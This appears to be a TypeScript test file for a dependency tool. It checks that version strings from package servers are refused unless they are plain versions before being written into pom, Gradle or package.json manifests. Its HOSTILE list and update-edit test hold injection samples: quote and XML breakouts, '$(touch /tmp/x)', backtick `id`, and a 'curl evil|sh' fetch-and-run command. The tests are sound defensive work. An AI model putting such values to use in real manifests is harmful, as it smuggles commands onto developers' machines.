// Server version strings written into manifests: only plain versions of the ecosystem, nothing that ends a string.
import assert from 'node:assert/strict';
import { isInsertableVersion, type Ecosystem } from '../../../../src/core/versioning/versions';
import { analyze, updateEdits } from '../../../../src/versions/dependencyInsight';
import { readManifest } from '../../../../src/versions/manifestDependencies';
import type { PackageVersions } from '../../../../src/versions/versionSource';

const HOSTILE = [
  '1.0.0"',
  "1.0.0'",
  '1.0.0\n',
  '1.0.0 ',
  ' 1.0.0',
  '=1.0.0',
  '${project.version}',
  '1.0</version><dependency><groupId>evil',
  '1.0"; exec("curl evil|sh"); "',
  '1.0\') + evil(\'',
  '$(touch /tmp/x)',
  '1.0.0`id`',
  '1.0.0\\',
  '1.0.0{}',
  '',
  '1'.repeat(200),
];

describe('versions that may be written into a manifest', () => {
  it('takes plain versions of each ecosystem', () => {
    const ok: [Ecosystem, string][] = [
      ['npm', '1.2.3'],
      ['npm', '2.0.0-rc.1+build.5'],
      ['pypi', '1.0'],
      ['pypi', '1!2.0.post1.dev3'],
      ['pypi', '2.0.0+cu118'],
      ['maven', '1.0'],
      ['maven', '3.2.1-SNAPSHOT'],
      ['maven', '1.0_beta+2'],
    ];
    for (const [eco, v] of ok) assert.equal(isInsertableVersion(eco, v), true, `${eco} ${v}`);
  });

  it('refuses anything that could end a string, an element or a line', () => {
    for (const eco of ['npm', 'pypi', 'maven'] as const) {
      for (const v of HOSTILE) assert.equal(isInsertableVersion(eco, v), false, `${eco} ${JSON.stringify(v)}`);
    }
  });

  it('no quick fix or update edit is made for a hostile latest version (pom, build.gradle, package.json)', () => {
    const manifests = [
      readManifest('pom', '<project><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>1.0</version></dependency></dependencies></project>'),
      readManifest('gradle', "dependencies { implementation 'g:a:1.0' }"),
      readManifest('packageJson', '{"dependencies": {"a": "^1.0.0"}}'),
    ];
    for (const contents of manifests) {
      const dep = contents.dependencies[0];
      assert.ok(dep);
      for (const evil of ['9.0"; evil()', '9.0</version><dependency>', "9.0' + evil + '", '9.0.0\n']) {
        const pkg: PackageVersions = { found: true, versions: [{ version: evil, status: 'Published', installable: true }, { version: dep.ecosystem === 'npm' ? '1.0.0' : '1.0', status: 'Published', installable: true }], distTags: { latest: evil }, latest: evil, fetchedAt: 0 };
        assert.notEqual(analyze(dep, pkg).latest, undefined);
        assert.deepEqual(updateEdits(dep, pkg), [], `${dep.ecosystem} ${JSON.stringify(evil)}`);
      }
    }
  });
});
